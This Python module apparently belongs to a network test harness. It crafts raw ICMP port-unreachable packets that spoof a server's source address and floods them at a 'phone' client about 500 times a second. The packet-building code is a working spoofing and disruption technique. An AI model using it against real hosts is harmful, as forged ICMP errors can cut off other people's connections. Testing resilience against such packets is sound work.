"""forger.py - forged ICMP port-unreachable errors: raw packets whose source is a server's address (LOCAL_icmp)."""
import socket
import struct
import threading
import time


def checksum(octets):
    if len(octets) % 2:
        octets += b"\0"
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source, to, protocol, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(to))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def unreachable(phone, server, quote):
    """-> the packet that tells the phone that the server's port is closed. phone, server: (address, port)."""
    udp = struct.pack("!HHHH", phone[1], server[1], 8 + max(len(quote), 400), 0) + quote
    body = bytes(4) + ip(phone[0], server[0], socket.IPPROTO_UDP, udp)
    icmp = struct.pack("!BBH", 3, 3, 0) + body
    return ip(server[0], phone[0], socket.IPPROTO_ICMP, icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:])


class Forger:
    """Sends the packets in turn, 500 a second, until it ends; `sent` counts them."""

    def __init__(self, net, host, to, packets):
        self.socket = net.socket(host, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.to, self.packets, self.sent, self.is_over = to, packets, 0, False
        self.thread = threading.Thread(target=self.send, daemon=True)

    def send(self):
        while not self.is_over:
            self.socket.sendto(self.packets[self.sent % len(self.packets)], (self.to, 0))
            self.sent += 1
            time.sleep(0.002)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.is_over = True
        self.thread.join()
        self.socket.close()
